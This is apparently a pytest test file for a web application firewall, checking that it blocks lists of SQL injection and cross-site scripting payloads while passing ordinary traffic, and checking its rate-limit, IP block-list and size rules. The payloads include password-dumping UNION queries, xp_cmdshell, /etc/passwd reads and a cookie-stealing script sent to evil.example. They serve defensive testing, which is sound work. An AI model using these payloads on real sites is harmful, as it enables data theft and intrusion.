"""The WAF's rules on their own: the payloads it must block, the traffic it must pass, count
mode, the rate rule on a manual clock, the block list and the size rule."""

from __future__ import annotations

import json
from urllib.parse import quote, urlencode

import pytest

from archlab.clock import ManualClock
from archlab.runtime.balancer.waf import Waf, WafPolicy

SQL_INJECTIONS = [
    "' OR '1'='1",
    "' or 1=1 --",
    "admin'--",
    "1 OR 1=1",
    "x' AND 'a'='a",
    "1 UNION SELECT username, password FROM users",
    "1 union all select null,null--",
    "1; DROP TABLE orders",
    "'; exec xp_cmdshell('dir')--",
    "1 AND SLEEP(5)",
    "1' AND pg_sleep(5)--",
    "1; WAITFOR DELAY '0:0:5'",
    "SELECT * FROM information_schema.tables",
    "1/**/UNION/**/SELECT/**/password/**/FROM/**/users",
    "1 UnIoN SeLeCt 1",
    "%27%20OR%20%271%27%3D%271",  # encoded once
    "%2527%2520OR%25201%253D1",  # encoded twice
    "' or true--",
    "load_file('/etc/passwd')",
]
CROSS_SITE_SCRIPTING = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<body onload="steal()">',
    "<svg/onload=alert(1)>",
    "javascript:alert(document.cookie)",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    "<iframe src=//evil.example></iframe>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    '"><img src=1 onmouseover=alert(1)>',
    "<object data=x></object>",
    "document.location='//evil.example/?'+document.cookie",
    "data:text/html;base64,PHNjcmlwdD4=",
    "<details open ontoggle=alert(1)>",
]
NORMAL_TRAFFIC = [
    "/api/products",
    "/api/products/car-essential",
    "/products/home-plus?ref=newsletter&utm_source=mail",
    "/search?q=travel+insurance+for+families",
    "/orders?page=2&sort=created",
    "/cart",
    "/checkout",
    "/static/site.css",
    "/health",
    "/api/orders/7f3c0a9e-1b2d-4c5e-8f90-0123456789ab",
]
NORMAL_BODIES = [
    json.dumps({"quantity": 2}),
    json.dumps(
        {
            "name": "Siobhán O'Brien",
            "email": "siobhan.obrien@example.ie",
            "address": {
                "line1": "12 O'Connell Street",
                "line2": "Apartment 3 - Select Court",
                "city": "Dublin",
                "region": "Leinster",
                "postal_code": "D01 F5P2",
                "country": "IE",
            },
            "card": {"number": "4242 4242 4242 4242", "expiry": "12/30", "cvc": "123"},
        }
    ),
    urlencode({"name": "D'Angelo & Sons", "note": "Please select the cheapest option; thanks!"}),
    urlencode({"comment": "I love <3 my dog, and cats > dogs or not?"}),
    urlencode({"address": "1 Union Street", "city": "Drop Lane", "notes": "ring the bell"}),
    json.dumps({"description": "Cover from the moment you select it, for trips and more"}),
]


def waf(**policy: object) -> Waf:
    return Waf(WafPolicy(rate_per_s=0, **policy))  # type: ignore[arg-type]


@pytest.mark.parametrize("payload", SQL_INJECTIONS)
def test_sql_injection_is_blocked_in_query_and_body(payload: str) -> None:
    firewall = waf()
    in_query = firewall.inspect("198.51.100.7", f"/search?q={quote(payload, safe='%')}", "", b"")
    in_body = firewall.inspect("198.51.100.7", "/api/checkout", "", payload.encode())
    for verdict in (in_query, in_body):
        assert verdict is not None and verdict.rule == "sql-injection" and verdict.blocked


@pytest.mark.parametrize("payload", CROSS_SITE_SCRIPTING)
def test_cross_site_scripting_is_blocked_in_query_body_and_cookies(payload: str) -> None:
    firewall = waf()
    checks = [
        firewall.inspect("198.51.100.7", f"/search?q={quote(payload, safe='%')}", "", b""),
        firewall.inspect("198.51.100.7", "/comments", "", payload.encode()),
        firewall.inspect("198.51.100.7", "/", f"theme={quote(payload)}", b""),
    ]
    for verdict in checks:
        assert verdict is not None and verdict.rule == "xss" and verdict.status == 403


@pytest.mark.parametrize("path", NORMAL_TRAFFIC)
def test_normal_paths_pass(path: str) -> None:
    assert waf().inspect("198.51.100.7", path, "sid=abc123; rw=0/16B3D10", b"") is None


@pytest.mark.parametrize("body", NORMAL_BODIES)
def test_normal_bodies_pass(body: str) -> None:
    firewall = waf()
    assert firewall.inspect("198.51.100.7", "/api/checkout", "", body.encode()) is None
    assert firewall.counters.allowed == 1


def test_count_mode_counts_and_lets_through() -> None:
    firewall = waf(mode="count")
    verdict = firewall.inspect("198.51.100.7", "/", "", b"' OR '1'='1")
    assert verdict is not None and not verdict.blocked
    assert firewall.counters.counted == {"sql-injection": 1}
    assert firewall.counters.blocked == {}


def test_the_rate_rule_is_a_token_bucket_per_client() -> None:
    clock = ManualClock()
    firewall = Waf(WafPolicy(rate_per_s=10, burst=5), clock=clock)
    results = [firewall.inspect("203.0.113.1", "/", "", b"") for _ in range(7)]
    assert [r is None for r in results] == [True] * 5 + [False] * 2
    assert results[-1] is not None and results[-1].status == 429
    assert firewall.inspect("203.0.113.2", "/", "", b"") is None  # another client: its own
    clock.advance(0.35)  # 3.5 tokens back
    again = [firewall.inspect("203.0.113.1", "/", "", b"") is None for _ in range(4)]
    assert again == [True, True, True, False]
    assert firewall.counters.blocked == {"rate-limit": 3}


def test_idle_buckets_are_forgotten_beyond_the_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    clock = ManualClock()
    firewall = Waf(WafPolicy(rate_per_s=10, burst=5), clock=clock)
    monkeypatch.setattr(Waf, "MAX_CLIENTS", 3)
    for client in ("a", "b", "c"):
        firewall.inspect(client, "/", "", b"")
    clock.advance(1)
    firewall.inspect("d", "/", "", b"")
    assert set(firewall._buckets) == {"d"}


def test_the_block_list_takes_addresses_and_networks() -> None:
    firewall = waf(block_cidrs=("192.0.2.0/24", "2001:db8::/32", "198.51.100.9"))
    for client in ("192.0.2.200", "2001:db8::1", "198.51.100.9"):
        verdict = firewall.inspect(client, "/", "", b"")
        assert verdict is not None and verdict.rule == "ip-block-list" and verdict.status == 403
    assert firewall.inspect("198.51.100.10", "/", "", b"") is None


def test_the_size_rule() -> None:
    firewall = waf(max_body_bytes=100)
    assert firewall.declared_too_large(100) is None
    verdict = firewall.declared_too_large(101)
    assert verdict is not None and verdict.status == 413 and "101 bytes" in verdict.reason


@pytest.mark.parametrize(
    "policy",
    [{"block_cidrs": ("not-an-ip",)}, {"burst": 0}, {"rate_per_s": -1}, {"max_body_bytes": -5}],
)
def test_a_bad_policy_is_refused(policy: dict[str, object]) -> None:
    with pytest.raises(ValueError):
        WafPolicy(**policy)  # type: ignore[arg-type]
